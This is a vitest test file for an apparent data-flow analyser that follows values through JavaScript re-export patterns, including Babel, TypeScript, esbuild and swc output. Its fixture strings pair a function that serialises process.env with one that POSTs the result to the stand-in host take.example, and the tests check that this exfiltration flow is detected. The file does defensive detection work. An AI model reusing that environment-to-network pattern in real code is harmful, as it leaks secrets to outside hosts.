import { describe, expect, it } from 'vitest';
import { factsOf, profileOf } from './profile-of.ts';

const send =
  "exports.send = send; function send(all) { fetch('https://take.example', { method: 'POST', body: all }); }";
const load = 'exports.load = () => JSON.stringify(process.env);';
const exporter =
  'var __export = (target, all) => { for (var name in all) Object.defineProperty(target, name, { get: all[name], enumerable: true }); };';

function flowsOf(index: string, others: Readonly<Record<string, string>>): string[] {
  return factsOf(profileOf({ 'index.js': index, ...others }), 'data.flow').map(
    ({ source, sink, to }) => `${source} → ${sink} @ ${to}`,
  );
}

const both = { 'send.js': send, 'load.js': load };
const asModule = "import { send, load } from './all.js'; send(load());";
const compiled = "const all_1 = require('./all'); (0, all_1.send)((0, all_1.load)());";

describe('data that goes between files through one that passes on what others export', () => {
  it.each([
    [
      'export *',
      asModule,
      { 'all.js': "export * from './send.js'; export * from './load.js';", ...both },
    ],
    [
      'export with other names',
      "import { a, b } from './all.js'; a(b());",
      {
        'all.js': "export { send as a } from './send.js'; export { load as b } from './load.js';",
        ...both,
      },
    ],
    [
      'imports that are exported',
      asModule,
      {
        'all.js':
          "import { send } from './send.js'; import { load } from './load.js'; export { send, load };",
        ...both,
      },
    ],
    [
      'a namespace',
      "import { all } from './all.js'; all.send(all.load());",
      { 'all.js': "export * as all from './both.js';", 'both.js': `${send} ${load}` },
    ],
    [
      'export * as TypeScript writes it',
      compiled,
      {
        'all.js':
          "__exportStar(require('./send'), exports); __exportStar(require('./load'), exports);",
        ...both,
      },
    ],
    [
      'getters as TypeScript and Babel write them',
      compiled,
      {
        'all.js':
          "var s = require('./send'); Object.defineProperty(exports, 'send', { enumerable: true, get: function () { return s.send; } }); var l = require('./load'); Object.defineProperty(exports, 'load', { enumerable: true, get: function () { return l.load; } });",
        ...both,
      },
    ],
    [
      'export * as Babel writes it',
      compiled,
      {
        'all.js': Object.keys(both)
          .map(
            (file, at) =>
              `var _${at} = require('./${file}'); Object.keys(_${at}).forEach(function (key) { if (key in exports) return; Object.defineProperty(exports, key, { get: function () { return _${at}[key]; } }); });`,
          )
          .join(' '),
        ...both,
      },
    ],
    [
      'what esbuild makes of a module',
      compiled,
      {
        'all.js': `${exporter} var all = {}; __export(all, { load: () => load }); module.exports = __toCommonJS(all); __reExport(all, require('./send'), module.exports); var load = () => JSON.stringify(process.env);`,
        'send.js': send,
      },
    ],
    [
      'what swc makes of a module',
      compiled,
      {
        'all.js':
          "_export(exports, { get send() { return s.send; }, get load() { return load; } }); const s = require('./send'); function load() { return JSON.stringify(process.env); }",
        'send.js': send,
      },
    ],
    [
      'an object of other modules',
      "const all = require('./all'); all.send(all.load());",
      {
        'all.js': "module.exports = { ...require('./send'), load: require('./load').load };",
        ...both,
      },
    ],
    [
      'a module that is another one',
      "const all = require('./all'); all.send(all.load());",
      { 'all.js': "module.exports = require('./both');", 'both.js': `${send} ${load}` },
    ],
  ])('is followed through %s', (_, index, others) => {
    expect(flowsOf(index, others)).toEqual(['environment → network.body @ take.example']);
  });

  it('is not taken for what has another name there', () => {
    const others = {
      'all.js': "export { send as quiet, load as all } from './both.js';",
      'both.js': `${send} ${load}`,
      'quiet.js': 'export function send(all) { return all; }',
    };
    const index = "import { send } from './quiet.js'; import { all } from './all.js'; send(all());";
    expect(flowsOf(index, others)).toEqual([]);
  });

  it('ends where files pass on each other', () => {
    const others = {
      'all.js': "export * from './more.js';",
      'more.js': "export * from './all.js';",
    };
    expect(flowsOf(asModule, others)).toEqual([]);
  });
});
